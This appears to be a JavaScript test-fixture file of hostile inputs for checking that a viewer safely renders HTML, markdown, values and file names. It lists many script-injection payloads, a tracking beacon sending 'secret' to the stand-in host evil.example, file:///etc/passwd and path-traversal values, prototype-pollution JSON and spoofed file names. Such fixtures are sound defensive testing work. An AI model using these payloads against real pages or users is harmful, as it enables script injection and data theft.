/*
 * What a model, a user or a file name may hold to take over the page that shows it. Each tries to run script (`pwned`),
 * to load something from elsewhere (`evil.example`, which the browser cannot resolve), or to break out of where it stands.
 */
const RUN = 'window.pwned=1';
const OUT = 'https://evil.example/';

export const HTML = [
  `<script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="${OUT}x.swf"></object><embed src="${OUT}x">`,
  `<base href="${OUT}">`,
  `<meta http-equiv="refresh" content="0;url=${OUT}">`,
  `<link rel="stylesheet" href="${OUT}x.css"><link rel=prefetch href="${OUT}p">`,
  `<style>@import "${OUT}y.css"; * { background: url(${OUT}bg.png) }</style>`,
  `<form action="${OUT}"><button autofocus onfocus=${RUN}>send</button></form>`,
  `<video><source onerror=${RUN}></video><audio src=x onerror=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `"><img src=x onerror=${RUN}>`,
  `'-${RUN}-'`,
  `</textarea></title></style></script><script>${RUN}</script>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<template><img src=x onerror=${RUN}></template>`,
  `\${${RUN}} {{constructor.constructor('${RUN}')()}} <%= ${RUN} %>`,
  `" onmouseover="${RUN}" style="position:fixed;inset:0" x="`,
  `x;background:url(${OUT}css.png)`,
  `javascript:${RUN}`,
];

export const MARKDOWN = [
  `[click](javascript:${RUN})`,
  `[click](JaVaScRiPt:${RUN})`,
  `[click](java&#x0A;script:${RUN})`,
  `[click](&#106;avascript:${RUN})`,
  `[click](\u0001javascript:${RUN})`,
  `[click](data:text/html,<script>${RUN}</script>)`,
  `[click](vbscript:msgbox)`,
  `[click](blob:${OUT}1)`,
  `[click](file:///etc/passwd)`,
  `[click](//evil.example/x "a&quot; onclick=${RUN}")`,
  `<javascript:${RUN}>`,
  `![beacon](${OUT}beacon.png?q=secret)`,
  `![x](javascript:${RUN})`,
  `![x"onerror="${RUN}](x)`,
  `![svg](data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>)`,
  `[![pic](${OUT}p.png)](${OUT})`,
  `[ref]: javascript:${RUN}\n[ref]`,
  '```"><img src=x onerror=' + RUN + '>\ncode\n```',
  '`<img src=x onerror=' + RUN + '>`',
  `| <img src=x onerror=${RUN}> | b |\n|---|---|\n| <script>${RUN}</script> | c |`,
  `> <img src=x onerror=${RUN}>\n\n- <svg onload=${RUN}>\n\n# <img src=x onerror=${RUN}>`,
  `www.evil.example ${OUT} mailto:a@evil.example`,
];

/** What the viewer makes of stubs, images and links in values. */
export const VALUES = [
  { type: 'image_url', image_url: { url: `${OUT}image.png` } },
  { type: 'image_url', image_url: { url: `javascript:${RUN}` } },
  { type: 'image', source: { type: 'url', url: `${OUT}image2.png` } },
  { type: 'image_url', image_url: { url: `data:text/html,<script>${RUN}</script>` } },
  { _file: '../../etc/passwd', _type: 'image/png', _size: 1, _sha256: 'x' },
  { _ref: 'nowhere', _size: 10 },
  JSON.parse(
    '{"__proto__": {"pwned": 1}, "constructor": {"prototype": {"pwned": 1}}, "toString": "<b>", "hasOwnProperty": 1, "dangerouslySetInnerHTML": {"__html": "<img src=x onerror=window.pwned=1>"}, "props": {}, "type": "script", "__k": 1, "$$typeof": "x"}',
  ),
];

/** Names that a file or folder may have. None holds a slash; all are at most 200 bytes. */
export const FILE_NAMES = [
  `<img src=x onerror=${RUN}>`,
  `"><script>${RUN}<`,
  `javascript:${RUN}`,
  '100% sure',
  '%2e%2e%2fetc',
  'a%20b',
  '?q=1&file=2',
  '#hash',
  '日本語 トレース',
  'emoji 🚀 – dash',
  'it\'s "quoted"',
  'a+b=c;d,e',
  'back\\slash',
  ' leading and trailing ',
  'ctrl\u0001\u001b[31mred',
  'rtl \u202egnp.exe',
  'dots..',
  'http:',
];
